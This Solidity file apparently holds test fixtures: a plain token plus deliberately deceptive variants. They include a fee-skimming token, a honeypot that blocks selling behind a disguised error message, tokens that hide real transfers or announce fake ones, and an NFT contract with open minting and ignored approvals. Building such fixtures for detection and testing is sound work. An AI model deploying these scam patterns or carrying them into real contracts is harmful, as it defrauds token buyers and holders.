// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

/// A plain token. Everything below differs from it in one habit.
contract Token {
    string public name;
    string public symbol;
    uint8 public immutable decimals;
    address public owner;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint8 decimals_) {
        (name, symbol, decimals, owner) = (name_, symbol_, decimals_, msg.sender);
        mint(msg.sender, 1_000_000 * 10 ** decimals_);
    }

    function mint(address to, uint256 value) public {
        require(msg.sender == owner, "not the owner");
        totalSupply += value;
        balanceOf[to] += value;
        emit Transfer(address(0), to, value);
    }

    function transferOwnership(address to) external {
        require(msg.sender == owner, "not the owner");
        owner = to;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 left = allowance[from][msg.sender];
        require(left >= value, "not allowed");
        if (left != type(uint256).max) allowance[from][msg.sender] = left - value;
        move(from, to, value);
        return true;
    }

    function move(address from, address to, uint256 value) internal virtual {
        require(balanceOf[from] >= value, "not enough");
        balanceOf[from] -= value;
        balanceOf[to] += value;
        tell(from, to, value);
    }

    function tell(address from, address to, uint256 value) internal virtual {
        emit Transfer(from, to, value);
    }
}

/// Keeps a tenth of every transfer.
contract FeeToken is Token {
    constructor() Token("Fee on transfer", "FEE", 18) {}

    function move(address from, address to, uint256 value) internal override {
        super.move(from, to, value);
        if (from != owner && to != owner) {
            balanceOf[to] -= value / 10;
            balanceOf[owner] += value / 10;
        }
    }
}

/// Can be bought from the pair and not sold to it.
contract Honeypot is Token {
    address public pair;

    constructor() Token("To the moon", "MOON", 18) {}

    function setPair(address pair_) external {
        require(msg.sender == owner, "not the owner");
        pair = pair_;
    }

    function move(address from, address to, uint256 value) internal override {
        require(to != pair || from == owner, "TransferHelper: TRANSFER_FROM_FAILED");
        super.move(from, to, value);
    }
}

/// Says nothing when it moves.
contract QuietToken is Token {
    constructor() Token("Quiet", "QUIET", 18) {}

    function tell(address, address, uint256) internal override {}
}

/// Announces transfers that never happened.
contract LoudToken is Token {
    constructor() Token("Loud", "LOUD", 18) {}

    function airdrop(address[] calldata to) external {
        for (uint256 i = 0; i < to.length; i++) emit Transfer(address(this), to[i], 1e24);
    }
}

/// A collection of items.
contract Items {
    string public constant name = "Items";
    string public constant symbol = "ITEM";
    mapping(uint256 => address) public getApproved;
    event Approval(address indexed owner, address indexed approved, uint256 indexed id);
    mapping(uint256 => address) public ownerOf;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => bool)) public isApprovedForAll;

    event Transfer(address indexed from, address indexed to, uint256 indexed id);
    event ApprovalForAll(address indexed owner, address indexed operator, bool approved);

    function supportsInterface(bytes4 id) external pure returns (bool) {
        return id == 0x80ac58cd || id == 0x01ffc9a7;
    }

    function mint(address to, uint256 id) external {
        require(ownerOf[id] == address(0), "taken");
        ownerOf[id] = to;
        balanceOf[to]++;
        emit Transfer(address(0), to, id);
    }

    function approve(address to, uint256 id) external {
        require(ownerOf[id] == msg.sender, "not yours");
        getApproved[id] = to;
        emit Approval(msg.sender, to, id);
    }

    function setApprovalForAll(address operator, bool approved) external {
        isApprovedForAll[msg.sender][operator] = approved;
        emit ApprovalForAll(msg.sender, operator, approved);
    }

    function transferFrom(address from, address to, uint256 id) public {
        require(ownerOf[id] == from, "not the owner's");
        require(msg.sender == from || isApprovedForAll[from][msg.sender], "not allowed");
        ownerOf[id] = to;
        balanceOf[from]--;
        balanceOf[to]++;
        emit Transfer(from, to, id);
    }

    function safeTransferFrom(address from, address to, uint256 id) external {
        transferFrom(from, to, id);
    }
}
